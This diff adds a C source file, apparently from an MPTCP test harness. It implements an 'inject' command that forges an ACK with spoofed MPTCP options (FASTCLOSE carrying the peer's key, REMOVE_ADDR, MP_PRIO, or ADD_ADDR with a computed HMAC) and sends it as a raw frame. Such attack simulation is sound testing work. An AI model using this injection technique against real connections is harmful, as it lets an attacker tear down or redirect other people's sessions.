@@ -1,0 +1,86 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Forged options on the first subflow, in an ACK that the other side has sent
+ * already as far as TCP can tell
+ */
+#include <stdio.h>
+#include <string.h>
+
+#include "attacker.h"
+
+static uint8_t *put_timestamps(uint8_t *at, const struct sender *sender)
+{
+	if (!sender->timestamps)
+		return at;
+	*at++ = TCPOPT_NOP;
+	*at++ = TCPOPT_NOP;
+	*at++ = TCPOPT_TIMESTAMP;
+	*at++ = TCPOLEN_TIMESTAMP;
+	return put32(put32(at, sender->tsval), sender->tsecr);
+}
+
+/* Sent by @from; its address if it is ADD_ADDR is addr= and addr_port= */
+static uint8_t *put_forged(uint8_t *at, const struct connection *connection,
+			   enum side from)
+{
+	struct endpoint address = { arg_addr("addr", "0.0.0.0"),
+				    htons((uint16_t)arg_number("addr_port",
+							       "0")) };
+	uint8_t id = (uint8_t)arg_number("id", "66");
+
+	*at++ = MPTCP_KIND;
+	if (arg_is("what", "fastclose", "")) {
+		*at++ = 12;
+		*at++ = MP_FASTCLOSE << 4;
+		*at++ = 0;
+		return put64(at, connection->keys[!from]);
+	}
+	if (arg_is("what", "remove-addr", "")) {
+		*at++ = 4;
+		*at++ = MP_REMOVE_ADDR << 4;
+		*at++ = id;
+		return at;
+	}
+	if (arg_is("what", "prio", "")) {
+		*at++ = 3;
+		*at++ = MP_PRIO << 4 | 1; /* backup */
+		return at;
+	}
+	*at++ = address.port ? 18 : 16;
+	*at++ = MP_ADD_ADDR << 4;
+	*at++ = id;
+	memcpy(at, &address.addr, 4);
+	at += 4;
+	if (address.port)
+		at = put16(at, ntohs(address.port));
+	return put64(at, add_addr_hmac(connection->keys[from],
+				       connection->keys[!from], id, &address,
+				       address.port));
+}
+
+bool cmd_inject(void)
+{
+	const struct connection *connection = arg_connection("conn");
+	enum side to = arg_is("to", "server", "client") ? SERVER : CLIENT;
+	const struct sender *sender;
+	struct plan plan = { .flags = TH_ACK };
+	struct frame frame;
+
+	if (!connection)
+		return false;
+	sender = &connection->senders[!to];
+	plan.from_mac = links[connection->path][!to].peer_mac;
+	plan.to_mac = links[connection->path][to].peer_mac;
+	plan.from = connection->ends[!to];
+	plan.to = connection->ends[to];
+	plan.seq = sender->next;
+	plan.ack = sender->ack;
+	plan.options_len =
+		(unsigned int)(put_forged(put_timestamps(plan.options, sender),
+					  connection, !to) -
+			       plan.options);
+	make_segment(&frame, &plan);
+	send_frame(&links[connection->path][to], &frame);
+	printf(" sent=1");
+	return true;
+}
